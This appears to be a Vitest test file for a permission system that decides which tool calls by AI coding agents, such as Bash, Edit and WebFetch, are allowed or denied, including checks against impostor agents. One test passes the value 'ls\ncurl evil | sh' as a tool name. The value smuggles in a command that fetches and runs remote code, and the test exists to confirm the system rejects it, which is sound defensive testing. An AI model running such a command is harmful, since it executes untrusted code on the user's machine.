import { createHash } from "node:crypto";
import { beforeAll, describe, expect, it } from "vitest";
import { type ApplicableGrant, decidingGrant } from "../../../src/grants/grant-decision";
import { inputDigest } from "../../../src/grants/input-digest";
import { narrowestRule } from "../../../src/grants/narrowest-rule";
import { loadShellReader } from "../../../src/grants/shell-reader";

beforeAll(() => loadShellReader());

const NOW = 1_000_000;
const SESSION = "a".repeat(32);
const KEY_A = "a1".repeat(16);
const KEY_B = "b2".repeat(16);
const place = { sessionId: SESSION, agent: { name: "Claude Code", key: KEY_A, own: false } };
const call = { toolName: "Bash", input: { command: "npm run test -- --watch=false" } };

function grant(overrides: Partial<ApplicableGrant>): ApplicableGrant {
  return {
    grantId: "g1",
    effect: "allow",
    rule: "Bash(npm run test:*)",
    scope: "all",
    sessionId: null,
    agent: null,
    reason: null,
    createdAt: 1,
    expiresAt: null,
    revokedAt: null,
    ...overrides,
  };
}

describe("decidingGrant", () => {
  it("picks a live allow in scope whose rule covers the call", () => {
    expect(decidingGrant([grant({})], call, place, NOW)?.grantId).toBe("g1");
  });

  it("lets a deny beat an allow whatever their order", () => {
    const grants = [
      grant({ grantId: "a" }),
      grant({ grantId: "d", effect: "deny", rule: "Bash", createdAt: 9 }),
    ];
    expect(decidingGrant(grants, call, place, NOW)?.grantId).toBe("d");
  });

  it("ignores expired and revoked grants", () => {
    expect(decidingGrant([grant({ expiresAt: NOW })], call, place, NOW)).toBeNull();
    expect(decidingGrant([grant({ expiresAt: NOW + 1 })], call, place, NOW)).not.toBeNull();
    expect(decidingGrant([grant({ revokedAt: 5 })], call, place, NOW)).toBeNull();
  });

  it("applies a session grant only in its session", () => {
    expect(decidingGrant([grant({ scope: "session", sessionId: SESSION })], call, place, NOW)).not.toBeNull();
    expect(
      decidingGrant([grant({ scope: "session", sessionId: "b".repeat(32) })], call, place, NOW),
    ).toBeNull();
  });

  it("applies an agent grant to its agent key, whatever name the agent gives itself", () => {
    const agent = (name: string, key: string | null) => grant({ scope: "agent", agent: { name, key } });
    expect(decidingGrant([agent("Claude Code", KEY_A)], call, place, NOW)).not.toBeNull();
    expect(decidingGrant([agent("Another name", KEY_A)], call, place, NOW)).not.toBeNull();
    expect(decidingGrant([agent("Claude Code", KEY_B)], call, place, NOW)).toBeNull();
    // A grant by name alone names no outside agent, and an agent with no key gets no agent grant.
    expect(decidingGrant([agent("Claude Code", null)], call, place, NOW)).toBeNull();
    const keyless = { ...place, agent: { ...place.agent, key: null } };
    expect(decidingGrant([agent("Claude Code", null)], call, keyless, NOW)).toBeNull();
  });

  it("applies a grant for Parley's own loop to that loop only, never to an agent named Parley", () => {
    const own = grant({ scope: "agent", agent: { name: "Parley", key: null } });
    const loop = { sessionId: SESSION, agent: { name: "Parley", key: null, own: true } };
    expect(decidingGrant([own], call, loop, NOW)).not.toBeNull();
    const impostor = { sessionId: SESSION, agent: { name: "Parley", key: null, own: false } };
    expect(decidingGrant([own], call, impostor, NOW)).toBeNull();
    expect(
      decidingGrant([own], call, { ...impostor, agent: { ...impostor.agent, key: KEY_A } }, NOW),
    ).toBeNull();
    // Nor does a keyed grant reach Parley's own loop.
    expect(
      decidingGrant([grant({ scope: "agent", agent: { name: "Parley", key: KEY_A } })], call, loop, NOW),
    ).toBeNull();
  });

  it("decides nothing for a call whose tool is not known, not even a deny for everything", () => {
    const grants = [grant({ rule: "Bash" }), grant({ grantId: "d", effect: "deny", rule: "Bash" })];
    for (const toolName of ["acp:execute", "ls\ncurl evil | sh", "Bash "])
      expect(decidingGrant(grants, { toolName, input: { command: "ls" } }, place, NOW)).toBeNull();
    expect(decidingGrant(grants, { toolName: "Bash", input: { command: "ls" } }, place, NOW)?.grantId).toBe(
      "d",
    );
  });

  it("answers nothing for a call no rule covers", () => {
    expect(
      decidingGrant([grant({})], { toolName: "Bash", input: { command: "npm run build" } }, place, NOW),
    ).toBeNull();
  });
});

describe("narrowestRule", () => {
  it("offers the exact command, the file's folder, the URL's host, or the tool", () => {
    expect(narrowestRule("Bash", { command: "npm run test -- --watch=false" })).toBe(
      "Bash(npm run test -- --watch=false)",
    );
    expect(narrowestRule("Bash", { command: "echo (x)" })).toBe("Bash");
    expect(narrowestRule("Edit", { file_path: "/home/me/app/src/a.ts" })).toBe("Edit(//home/me/app/src/**)");
    expect(narrowestRule("Write", { file_path: "src/a.ts" })).toBe("Edit(src/**)");
    expect(narrowestRule("Read", { file_path: "README.md" })).toBe("Read(README.md)");
    expect(narrowestRule("WebFetch", { url: "https://docs.example.com/x" })).toBe(
      "WebFetch(domain:docs.example.com)",
    );
    expect(narrowestRule("mcp__s__t", {})).toBe("mcp__s__t");
  });
});

describe("inputDigest", () => {
  it("is SHA-256 of the request as JSON", () => {
    // Checked against node:crypto: sha256('{"a":1}') and sha256('null').
    expect(inputDigest({ a: 1 })).toBe(createHash("sha256").update('{"a":1}').digest("hex"));
    expect(inputDigest(undefined)).toBe("74234e98afe7498fb5daf1f36ac2d78acc339464f950703b8c019892f982b90b");
    expect(inputDigest({ a: 1 })).not.toBe(inputDigest({ a: 2 }));
  });
});

describe("a list of commands under several allows", () => {
  const list = { toolName: "Bash", input: { command: "npm run test && git status" } };
  const allows = [
    grant({ grantId: "test", rule: "Bash(npm run test:*)", createdAt: 2 }),
    grant({ grantId: "status", rule: "Bash(git status)", createdAt: 3 }),
  ];

  it("is allowed when each command is covered by some allow, the oldest of them deciding", () => {
    expect(decidingGrant(allows, list, place, NOW)?.grantId).toBe("test");
  });

  it("is asked about when one command is covered by none, or a deny covers any", () => {
    expect(decidingGrant(allows.slice(0, 1), list, place, NOW)).toBeNull();
    const chained = { toolName: "Bash", input: { command: "npm run test && git status && touch x" } };
    expect(decidingGrant(allows, chained, place, NOW)).toBeNull();
    const denied = [...allows, grant({ grantId: "no", effect: "deny", rule: "Bash(git status)" })];
    expect(decidingGrant(denied, list, place, NOW)?.grantId).toBe("no");
  });
});
